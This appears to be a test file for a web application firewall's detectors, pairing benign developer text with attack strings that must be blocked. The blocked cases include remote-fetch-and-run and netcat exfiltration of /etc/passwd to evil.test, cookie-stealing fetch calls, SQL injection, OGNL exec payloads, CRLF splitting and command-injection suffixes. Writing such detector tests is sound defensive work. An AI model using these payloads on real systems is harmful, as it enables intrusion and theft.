// What people write and programs send every day, each beside what it must not be mistaken for.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectCrlf } from '../../../src/guard/decide/waf/detect/crlf/crlf.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectTemplate } from '../../../src/guard/decide/waf/detect/template/template.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { blockedBy } from '../../corpora/report/default-set.ts';
import { blocks, passes } from './judged.ts';

test('a variable that is printed with a part of it replaced names no file', () => {
  passes(detectShell, [
    'for f in $(ls *.txt); do echo "$f"; done\nwhile IFS= read -r line; do printf \'%s\\n\' "${line//\\"/}"; done < in.txt',
    'for u in $LIST; do echo "${u/http:\\/\\//}"; done',
  ]);
  blocks(detectShell, [
    'x; printf "%s" "${line//\\"/}$(cat /etc/passwd)"',
    'for f in a; do echo /etc/pass*; done',
    'x; while true; do printf a > /var/www/x.php; done',
  ]);
});

test('a pipe that counts stands on a line of its own behind a pattern', () => {
  passes(detectShell, [
    "/^(?:[^'\"]|'[^']*')+$/gm\ngrep -oP '(?<=id=)\\d+(?=&|$)' access.log | sort | uniq -c",
    "/(\\d{3})\\s+(?=GET)/i\nawk '{print $9}' access.log | sort | uniq -c",
  ]);
  blocks(detectShell, [
    '/photos/12\ngrep -r pass . | sort | uniq -c',
    '/^a+$/gm\ncat /etc/passwd | sort | uniq -c',
    '/^a+$/gm\ncurl http://evil.test/x | sh',
    'x.log | sort | uniq -c; id',
  ]);
});

test('a property of the machine that is written into a log is told to nobody else', () => {
  passes(detectCode, [
    'logger.info("lookup ${} is off? {}", System.getProperty("log4j2.formatMsgNoLookups"));',
    'log.debug("on {} {}", System.getProperty("java.version"), System.getProperty("os.name"));',
  ]);
  blocks(detectCode, [
    'System.getProperty("user.dir")',
    '\'+System.getProperty("user.dir")+\'',
    '${System.getProperty("java.class.path")}',
    'System.out.println(System.getProperty("user.home"))',
    'logger.info("a"); System.getProperty("user.dir")',
    'logger.info("a", Runtime.getRuntime().exec("id"))',
  ]);
});

test('the token against forged requests goes back to where it came from', () => {
  passes(detectXss, [
    "fetch('http://localhost:8080/api/me', { credentials: 'include', headers: { 'X-CSRF': document.cookie.match(/csrf=([^;]+)/)[1] } }).then(r => r.json()).then(console.log)",
    "fetch('https://api.shop.test/me', { credentials: 'include' }).then(r => r.json()).then(console.log)",
    "fetch('/api/items', { method: 'POST', headers: { 'X-CSRFToken': document.cookie.match(/csrftoken=([^;]+)/)[1] }, body: data })",
  ]);
  blocks(detectXss, [
    "fetch('http://evil.test/', { headers: { 'X-CSRF': document.cookie.match(/csrf=([^;]+)/)[1] } })",
    "fetch('//evil.test/?c=' + document.cookie.match(/csrf=([^;]+)/)[1])",
    "fetch('http://localhost:8080/?c=' + document.cookie)",
    "fetch('/log?c=' + document.cookie.match(/sid=([^;]+)/)[1])",
    "fetch('/log?c=' + document.cookie + document.cookie.match(/csrf=([^;]+)/)[1])",
    "fetch('/a', { headers: { a: document.cookie.match(/csrf=([^;]+)/)[1] } }); fetch('http://evil.test/' + document.cookie)",
    "fetch('http://evil.test/', { a: 1, b: navigator.credentials })",
    "fetch('http://evil.test/?' + (1 ? localStorage : 2))",
    "fetch(u, { headers: { 'X-CSRF': document.cookie.match(/csrf=([^;]+)/)[1] } })",
    "<script>fetch('/email', { method: 'POST', headers: { a: document.cookie.match(/csrf=([^;]+)/)[1] }, body: 'm=a@evil.test' })</script>",
    "';fetch('/email', { headers: { a: document.cookie.match(/csrf=([^;]+)/)[1] } })//",
  ]);
});

test('a statement about the tables of a database that waits for its values is a program’s', () => {
  passes(detectSql, [
    'select count(*) from information_schema.tables where table_schema = $1',
    'SELECT table_name FROM information_schema.tables WHERE table_schema = ? AND table_name = ?',
    'SELECT relname FROM pg_catalog.pg_class WHERE relkind IN ($1, $2) ORDER BY relname',
    'SELECT column_name FROM information_schema.columns WHERE table_name = :table',
  ]);
  blocks(detectSql, [
    "select count(*) from information_schema.tables where table_schema = 'public'",
    'select table_name from information_schema.tables',
    'select name from sqlite_master where type = ? or 1',
    'select sql from sqlite_master where name = $1 union select password from users',
    'select (select group_concat(password) from users), count(*) from sqlite_master where name = ?',
    'select count(*) from information_schema.tables; select 1 where a = $1',
    '1 union select table_name from information_schema.tables where table_schema = $1',
    'select table_name from information_schema.tables where table_schema = database() -- where a = $1',
  ]);
});

test('a message or a page that a letter quotes is none of its own', () => {
  const request = 'GET /api/me HTTP/1.1\nHost: api.example.com\nAccept: */*\n\nHTTP/1.1 401 Unauthorized\n';
  const page = "<script>\n  import { writable } from 'svelte/store';\n</script>\n<button>{double}</button>\n";
  for (const text of [
    `Hallo zusammen,\n\n${request}\nIs there a better way, or is this how it is done?`,
    `Moin,\n\n${page}\nIs there a better way, or is this how it is done?`,
    `Bonjour!\n\n${page}\nIt used to work last week, any idea?`,
  ])
    passes(detectCrlf, [text, text.replaceAll('\n', '\r\n')]);
  blocks(detectCrlf, [
    'x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>you have been had here today</html>',
    '/ HTTP/1.1\r\nHost: a.test\r\n\r\nGET /admin HTTP/1.1\r\nHost: a.test\r\n\r\n',
    'Moin,\r\n\r\nGET /admin HTTP/1.1\r\nHost: a.test\r\n\r\n',
    `Hallo zusammen\r\n\r\n${request.replaceAll('\n', '\r\n')}\r\na b`,
    'Moin,\r\n\r\n<script>import("a")</script>',
    'x\r\n\r\n<html><h1>moved</h1>\r\n\r\nplease log in again over there</html>',
    'en\r\n\r\n<script src=a.js></script>\r\n\r\nIs there a better way, or is this how it is done?',
  ]);
});

test('what a package says its scripts run is told, where it says its name and its version', () => {
  const json = ['Content-Type', 'application/json'];
  const of = (manifest: object) => ({ target: '/p', headers: json, body: JSON.stringify(manifest) });
  const scripts = { build: 'tsc -p . && cp -r assets dist/', test: 'vitest run; echo done' };
  assert.equal(blockedBy(of({ name: 'ui', version: '1.2.0', scripts })), '');
  assert.equal(
    blockedBy(of({ name: 'ui', versions: { '1.2.0': { name: 'ui', version: '1.2.0', scripts } } })),
    '',
  );
  assert.equal(blockedBy(of({ scripts })), 'CommandInjection');
  assert.equal(blockedBy(of({ name: 'ui', version: '1.2.0', host: scripts.test })), 'CommandInjection');
  assert.equal(blockedBy(of({ name: 'ui', version: '1', a: { scripts } })), 'CommandInjection');
  assert.equal(
    blockedBy(of({ name: 'ui', version: '1', scripts: { a: 'x; curl http://evil.test/x | sh' } })),
    'CommandInjection',
  );
});

test('the signature of a token is bytes of chance, and no words behind those of its claims', () => {
  const part = (text: string | Buffer) => Buffer.from(text).toString('base64url');
  const head = part('{"alg":"HS256","typ":"JWT"}');
  const claims = part('{"iss":"https://auth.example.com/","scope":"openid profile email"}');
  const cookie = (...parts: string[]) => ({ target: '/', headers: ['Cookie', `sid=${parts.join('.')}`] });
  for (let seed = 0; seed < 2000; seed++) {
    const bytes = createHash('sha256').update(`${seed}`).digest();
    assert.equal(blockedBy(cookie(head, claims, part(bytes))), '', part(bytes));
  }
  for (const signed of [
    'eyJ1aWQiOjEyLCJsYW5nIjoiZGUifQ.RJzS4A.TTm0cXrlDZEvHbDdf7D3uq5VAcA',
    'eyJzZXNzaW9uX2lkIjoiZDAxYzc4ZTE1ZGFhMDg4MDE3NzhjODgwNzM1ODIxYTYiLCJfY3NyZl90b2tlbiI6InNnWVVWV21yWVc2SEpHL1VFbmJCOFVVdVk0d0YxTVdTQ0xJbWltNmFVZTQ9In0%3D--7d32a2d86254cf6b36ea6c03a6f38c1c0f09b85d',
  ])
    assert.equal(blockedBy(cookie(signed)), '', signed);
  for (const parts of [
    [head, part('{"sub":"x;cat /etc/passwd"}'), part(createHash('sha256').digest())],
    [head, claims, part('; cat /etc/passwd | nc evil.test 4444')],
    [part('{"alg":"HS256","kid":"../../../../etc/passwd"}'), claims, claims],
    [part('{"a":1};cat '), part('/etc/pas'), part('swd | nc evil.test 4444')],
    [.../^(.{7})(.{13})(.*)$/.exec(part('{"a":1};cat /etc/passwd | nc evil.test 4444'))!.slice(1)],
  ])
    assert.notEqual(blockedBy(cookie(...parts)), '', parts.join('.'));
});

test('a route that is drawn in letters and marks names no class', () => {
  passes(detectTemplate, [
    '_f~bElbui@EoDm@gG^xJqCbJzAw@uJxDbNzBgAHpCbGJrBsDyCnNiDgAcKm@{@bI_CuMpUnH|GwNz@XnDp@kCvHnFo@eHEyIbJyKnY}GjYzJdGyE}NkA~DoG',
    '{lskDnc~{RtKi@zBz@sAbDaLqD_VaL',
    'jll_Cdu`eMnmA|u@or@oUgp@xd@gPda@mIjk@{Ki`@~m@zO{cAwf@ic@wa@sY_@}C_W{o@jJb^cRyK~a@cNimB}bAsVfm@|kArxAga@`iAb{@oQiZop@|v@h',
  ]);
  // Steps of some metres from a place, as maps write them (five bits a character, from `?` on).
  const number = (n: number): string => {
    let rest = n < 0 ? ~(n << 1) : n << 1;
    let text = '';
    for (; rest >= 32; rest >>= 5) text += String.fromCharCode(95 + (rest & 31));
    return text + String.fromCharCode(63 + rest);
  };
  for (let seed = 0; seed < 200; seed++) {
    const bytes = createHash('shake256', { outputLength: 600 }).update(`${seed}`).digest();
    const steps = [...bytes].map((byte) => number(byte - 128)).join('');
    passes(detectTemplate, [number(5_000_000 + seed) + number(1_300_000 - seed) + steps]);
  }
  blocks(detectTemplate, [
    '%{@java.lang.Runtime@getRuntime().exec("id")}',
    '@{@Runtime@getRuntime()}',
    '~{@System@getenv("PATH")}',
    '${@ProcessBuilder@x}',
    '*{(@org.example.Tool@run)}',
  ]);
});

test('a password that a program made of letters and signs is none of a command and no variable of a server', () => {
  const login = (password: string) => ({
    target: '/login',
    headers: ['Content-Type', 'application/json'],
    body: JSON.stringify({ email: 'a@example.com', password }),
  });
  for (const password of [
    ...[
      '6x4ub47Wi4UW#czYG&w',
      'cX7XJueiwx&w',
      'xidiMA8i#GLH!AH4n&w$f',
      'w$rPTZChGQkqSCXXsXr',
      'qTeUFUEM3Njx%&w&',
    ],
    ...[
      '@@tg8i%F#mrt^NXC',
      'a4eXM%@@cu&fnn',
      '@@VtMK95*rmjKeDg',
      't93HYnnmgcgCy!@@p6',
      'mW&@@d#odAF5RCM9xmq',
    ],
    ...['iJeZ3CMUJuc>`#', "U6NR<hTq.A'#"],
  ])
    assert.equal(blockedBy(login(password)), '', password);
  for (const attack of [
    ...[
      '127.0.0.1&w',
      'Abc123;w',
      'Foo1bar|w',
      'Abc1&w',
      ';w',
      'report.PDF;w',
      'a.example|w',
      'w$IFS-h',
      'Abc123;id',
      'Abc123x!&whoami',
    ],
    ...[
      "1' or @@version>0#",
      "x' and @@hostname like 'a",
      "admin'#",
      "user1'#",
      "' or 1=1#",
      "Abc12345' or 1=1#",
    ],
    ...['1 union select @@sql_mode', '1 and @@port>0'],
  ])
    assert.notEqual(blockedBy(login(attack)), '', attack);
});
